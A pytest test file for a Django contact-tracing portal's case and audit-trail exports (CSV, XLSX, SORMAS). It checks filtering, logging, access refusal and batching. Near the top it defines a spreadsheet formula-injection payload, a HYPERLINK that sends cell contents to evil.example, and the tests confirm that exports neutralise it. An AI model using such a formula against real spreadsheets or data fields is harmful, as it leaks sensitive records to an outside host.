import json
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from django.utils import timezone, translation

from clea_portal.accounts.enums import TeamRole
from clea_portal.accounts.models import TeamMembership
from clea_portal.audit.models import AuditEvent
from clea_portal.audit.trail import record_read
from clea_portal.jobs import running
from clea_portal.jobs.enums import JobState
from clea_portal.jobs.models import Job
from clea_portal.jobs.results import JobRefused, stream
from clea_portal.spreadsheets import is_formula
from mct import exporting, jobs, trail_exporting
from mct.enums import CaseState, DeclarationState, Entry, Problem
from mct.models import Case, TimelineEntry
from mct.moves import note
from tests.factories import (
    CaseFactory,
    RegionFactory,
    TeamFactory,
    TeamMembershipFactory,
    UserFactory,
    VenueTypeFactory,
    declaration_of,
    linked_case,
)
from tests.spreadsheets import content_of, csv_rows, xlsx_cells

pytestmark = pytest.mark.django_db
MADE = datetime(2026, 6, 20, 8, tzinfo=UTC)
# As they reached health departments: in whatever a person can write.
ATTACK = '=HYPERLINK("https://evil.example?"&A1,"click")'


@pytest.fixture(autouse=True)
def _in_paris():
    with timezone.override(ZoneInfo("Europe/Paris")):
        yield


@pytest.fixture
def lead(db):
    return TeamMembershipFactory(role=TeamRole.LEAD).user


def told_case(**fields):
    case = linked_case(
        **(
            {
                "created_at": MADE,
                "exposure_start": datetime(2026, 6, 19, 18, tzinfo=UTC),
                "exposure_end": datetime(2026, 6, 19, 20, tzinfo=UTC),
                "infected_count": 3,
                "reference": "2026-117",
                "notes": "Table 4",
                "state": CaseState.PUBLISHED,
            }
            | fields
        )
    )
    TimelineEntry.objects.create(case=case, entry=Entry.PICTURE_READ)
    times = {name: MADE + timedelta(hours=number) for number, name in enumerate(("created_at", "accepted_at", "published_at"), 1)}
    declaration_of(case, state=DeclarationState.PUBLISHED, **times)
    return case


def rows_of(cases):
    return list(exporting.rows(cases, seen=lambda case: None))


def arguments(*regions, format_="csv", show="", **chosen):
    return {"regions": [region.pk for region in regions], "show": show, "chosen": chosen, "format": format_}


def export(by, *regions, **words):
    return jobs.export_cases(arguments(*regions, **words), by=by, report=lambda done, total: None)


def test_row_holds_the_case_and_its_ltid_but_no_link():
    case = told_case()
    [row] = rows_of(Case.objects.all())
    assert dict(zip(exporting.headings(), row, strict=True)) == {
        "number": str(case.uuid),
        "reference": "2026-117",
        "country": "FR",
        "region": 38,
        "name of the region": "Region 38",
        "from (Europe/Paris)": case.exposure_start,
        "to": case.exposure_end,
        "infected people": 3,
        "state": "published",
        "problem": "",
        "check code": case.code.check_code,
        "LTId": str(case.code.ltid),
        "how the code came": "read from a picture",
        "type of place": "",
        "notes": "Table 4",
        "registered": MADE,
        "declaration ordered": MADE + timedelta(hours=1),
        "accepted": MADE + timedelta(hours=2),
        "published": MADE + timedelta(hours=3),
        "number of the person's cases": "",
        "place": None,
        "merged into": "",
    }
    assert case.code.deep_link not in str(row)


def test_case_without_code_and_declaration_has_empty_cells():
    CaseFactory(state=CaseState.NEEDS_ATTENTION, problem=Problem.NO_CODE, reference="")
    [row] = rows_of(Case.objects.all())
    assert [cell for cell in row[8:] if cell is not None][:6] == ["needs attention", "no code could be read", "", "", "", ""]
    assert row[-6:] == (None, None, None, "", None, "")


def test_rows_come_in_batches_the_last_registered_first(monkeypatch, django_assert_num_queries):
    cases = [CaseFactory() for _ in range(5)]
    monkeypatch.setattr(exporting, "BATCH", 2)
    # The types of place, the regions; for each of three batches the cases, their timeline, their declarations; then none.
    with django_assert_num_queries(12):
        numbers = [row[0] for row in rows_of(Case.objects.all())]
    assert numbers == [str(case.uuid) for case in reversed(cases)]


@pytest.mark.parametrize("format_", ["csv", "xlsx", "sormas"])
def test_formulas_of_people_are_text_in_every_column(lead, format_):
    """Names of regions and types of place come from administrators, the rest from whoever writes cases."""
    region = TeamMembership.objects.get(user=lead).team.region
    region.name = ATTACK
    region.save()
    VenueTypeFactory(number=5, label_fr=ATTACK, label_en=ATTACK)
    told_case(region=region, reference=ATTACK[:40], notes=ATTACK, venue_type="5")
    content = content_of(export(lead, region, format_=format_).file)
    if format_ == "xlsx":
        [_heading, cells] = xlsx_cells(content)
        assert {kind for kind, text in cells if is_formula(text)} == {"inlineStr"}
        assert sum(is_formula(text) for _kind, text in cells) == 4
    else:
        rows = csv_rows(content, delimiter="," if format_ == "sormas" else ";")
        assert [cell for row in rows for cell in row if is_formula(cell)] == []
        assert sum(cell.startswith("'=") for cell in rows[-1]) == (2 if format_ == "sormas" else 4)


@pytest.mark.parametrize("column", range(22))
def test_attack_in_any_column_of_a_row_stays_text(lead, monkeypatch, column):
    region = TeamMembership.objects.get(user=lead).team.region
    row = [f"cell {number}" for number in range(22)]
    row[column] = ATTACK
    monkeypatch.setattr(exporting, "rows", lambda cases, *, seen: iter([row]))
    assert csv_rows(content_of(export(lead, region).file))[1][column] == f"'{ATTACK}"
    assert xlsx_cells(content_of(export(lead, region, format_="xlsx").file))[1][column] == ("inlineStr", ATTACK)


@pytest.mark.parametrize(("language", "day"), [("en", "06/19/2026"), ("fr", "19/06/2026")])
def test_sormas_takes_what_fits_as_an_event(lead, language, day):
    case = told_case(state=CaseState.CLOSED)
    with translation.override(language):
        content = content_of(export(lead, case.region, format_="sormas").file)
    entities, names, row = csv_rows(content, delimiter=",")
    assert not content.startswith(b"\xef\xbb\xbf")
    assert list(zip(entities, names, strict=True)) == list(exporting.SORMAS_COLUMNS)
    assert dict(zip(names, row, strict=True)) == {
        "externalId": str(case.uuid),
        "eventStatus": "EVENT",
        "eventInvestigationStatus": "DONE",
        "eventTitle": "2026-117",
        "eventDesc": f"CLÉA: 2026-06-19 20:00 – 2026-06-19 22:00, {case.code.check_code}\nTable 4",
        "startDate": day,
        "endDate": day,
        "reportDateTime": day.replace("19", "20", 1),
        "eventLocation.region": "Region 38",
        "disease": "CORONAVIRUS",
    }


def test_sormas_event_of_a_case_without_words_has_a_title_and_progress(lead):
    case = CaseFactory(reference="")
    row = csv_rows(content_of(export(lead, case.region, format_="sormas").file), delimiter=",")[2]
    assert row[2:4] == ["PENDING", f"CLÉA {str(case.uuid)[:8]}"]


def test_export_holds_the_cases_of_the_regions_that_the_filter_shows(lead):
    mine = CaseFactory(state=CaseState.CLOSED)
    CaseFactory(state=CaseState.DRAFT)
    CaseFactory(state=CaseState.CLOSED, exposure_start=timezone.now() - timedelta(days=9))
    CaseFactory(state=CaseState.CLOSED, region=RegionFactory(number=69))
    since = (timezone.localdate() - timedelta(days=3)).isoformat()
    rows = csv_rows(content_of(export(lead, mine.region, show="closed", since=[since]).file))
    assert [row[0] for row in rows] == ["number", str(mine.uuid)]


def test_export_is_logged_for_each_region_with_its_filter_and_no_words(lead):
    other = RegionFactory(number=69)
    TeamMembershipFactory(user=lead, team=TeamFactory(region=other))
    here = CaseFactory(reference="Mme Durand").region
    content_of(export(lead, here, other, show="attention", since=["2026-01-01"], q=["Mme Durand"]).file)
    events = AuditEvent.objects.order_by("details__region").values_list("kind", "actor", "verb", "subject", "details")
    filter_ = {"show": "attention", "since": ["2026-01-01"], "q": 1}
    assert list(events) == [
        ("read", lead.pk, "exported_cases", "authorities.region", {"format": "csv", "filter": filter_, "region": pk, "cases": n})
        for pk, n in sorted([(here.pk, 1), (other.pk, 0)])
    ]
    assert "Durand" not in json.dumps(list(AuditEvent.objects.values_list("details", flat=True)))


def test_export_of_a_region_that_is_no_longer_the_person_s_is_refused_and_not_handed_out(lead):
    region = TeamMembership.objects.get(user=lead).team.region
    TeamMembership.objects.all().delete()
    for refused in (jobs.check_cases, jobs.check_trail):
        with pytest.raises(JobRefused):
            refused(arguments(region), by=lead)
    with pytest.raises(JobRefused):
        export(lead, region)
    assert AuditEvent.objects.count() == 0


@pytest.mark.parametrize("wrong", [{"since": ["soon"]}, {"show": "nonsense"}])
def test_filter_that_no_longer_fits_lets_nothing_through(lead, wrong):
    with pytest.raises(JobRefused):
        export(lead, CaseFactory().region, **wrong)


def test_spreadsheet_that_would_be_too_long_is_refused_with_the_limit(lead, monkeypatch):
    region = CaseFactory.create_batch(3)[0].region
    monkeypatch.setattr(jobs, "XLSX_ROWS", 3)
    with pytest.raises(JobRefused, match="at most 2 rows, and these are 3"):
        export(lead, region, format_="xlsx")
    assert len(csv_rows(content_of(export(lead, region).file))) == 4


def test_progress_is_said_for_each_row(lead):
    region = CaseFactory.create_batch(3)[0].region
    said = []
    result = jobs.export_cases(arguments(region), by=lead, report=lambda done, total: said.append((done, total)))
    content_of(result.file)
    assert said == [(0, 3), (1, 3), (2, 3), (3, 3)]


def test_worker_makes_the_file_for_its_owner(lead):
    case = told_case()
    words = {"by": lead, "regions": [case.region_id], "show": "", "chosen": {}, "format_": "xlsx", "back_to": ""}
    job = jobs.order_cases(**words)
    assert jobs.order_cases(**words) == job
    running.run(job.pk)
    job = Job.objects.get()
    assert (job.state, job.title, job.done, job.total) == (JobState.DONE, "Cases, Excel (XLSX)", 1, 1)
    assert job.file_name == f"CLEA Cases {timezone.localdate():%Y-%m-%d}.xlsx"
    cells = xlsx_cells(b"".join(stream(job)))
    assert (cells[1][0], cells[1][5][0]) == (("inlineStr", str(case.uuid)), "n")


def trail(by, *regions, since="", until="", format_="csv"):
    words = {"regions": [region.pk for region in regions], "since": since, "until": until, "format": format_}
    return content_of(jobs.export_trail(words, by=by, report=lambda done, total: None).file)


def test_trail_says_who_did_and_read_what_of_the_region_s_cases(lead):
    agent = UserFactory()
    case, foreign = CaseFactory(), CaseFactory(region=RegionFactory(number=69))
    note(case, Entry.REGISTERED, by=agent, count=2)
    record_read(actor=lead, verb="opened", on=case)
    record_read(actor=agent, verb="opened", on=foreign)
    record_read(actor=agent, verb="opened", on=agent)
    rows = csv_rows(trail(lead, case.region))
    assert rows[0] == ["when (Europe/Paris)", "kind", "who", "on whose behalf", "what", "number of the case", "details"]
    assert [row[1:] for row in rows[1:]] == [
        ["read", lead.email, "person", "Case opened", str(case.uuid), ""],
        ["act", agent.email, "person", "Case registered", str(case.uuid), '{"count": 2}'],
    ]


def test_trail_has_exports_of_the_region_and_is_logged_itself(lead):
    region = CaseFactory().region
    content_of(export(lead, region).file)
    trail(lead, region, since="2026-01-01")
    verbs = [row[4] for row in csv_rows(trail(lead, region))[1:]]
    assert verbs == ["Trail of the region exported", "Cases of the region exported"]
    event = AuditEvent.objects.filter(verb="exported_trail").order_by("pk").first()
    assert event.details == {"region": region.pk, "lines": 1, "format": "csv", "since": "2026-01-01", "until": ""}


def test_trail_of_some_days(lead):
    case = CaseFactory()
    for day in (10, 11, 12):
        # 23:30 in UTC is the next day in Paris.
        at = datetime(2026, 6, day, 23, 30, tzinfo=UTC)
        AuditEvent.objects.create(kind="read", verb=f"on {day + 1}", subject="mct.case", subject_uuid=case.uuid, at=at)
    days = {"since": date(2026, 6, 12).isoformat(), "until": date(2026, 6, 12).isoformat()}
    assert [row[4] for row in csv_rows(trail(lead, case.region, **days))[1:]] == ["on 12"]


def test_trail_as_a_spreadsheet(lead):
    case = CaseFactory()
    record_read(actor=lead, verb="opened", on=case)
    row = xlsx_cells(trail(lead, case.region, format_="xlsx"))[1]
    assert [kind for kind, _text in row[:6]] == ["n", *["inlineStr"] * 5]


def test_trail_comes_in_batches(lead, monkeypatch, django_assert_num_queries):
    case = CaseFactory()
    for _ in range(5):
        record_read(actor=lead, verb="opened", on=case)
    monkeypatch.setattr(trail_exporting, "BATCH", 2)
    events = trail_exporting.trail_of(frozenset([case.region_id]), since=None, until=None)
    with django_assert_num_queries(4):
        assert len(list(trail_exporting.rows(events, regions=frozenset()))) == 5


def test_trail_has_pages_of_the_list_with_cases_of_the_region_and_counts_no_others(lead):
    case, there = linked_case(), CaseFactory(region=RegionFactory(number=69))
    for regions in ({str(case.region_id): 2, str(there.region_id): 7}, {str(there.region_id): 5}, {}):
        record_read(actor=lead, verb="listed_cases", on=lead, show="", cases=sum(regions.values()), regions=regions)
    rows = csv_rows(trail(lead, case.region))[1:]
    assert [(row[1], row[2], row[4], row[5], row[6]) for row in rows] == [
        ("read", lead.email, "List of cases opened", "", '{"cases": 2, "show": ""}')
    ]
    neighbour = TeamMembershipFactory(role=TeamRole.LEAD, team=TeamFactory(region=there.region)).user
    rows = csv_rows(trail(neighbour, there.region))[1:]
    assert [row[6] for row in rows if row[4] == "List of cases opened"] == [
        '{"cases": 5, "show": ""}',
        '{"cases": 7, "show": ""}',
    ]
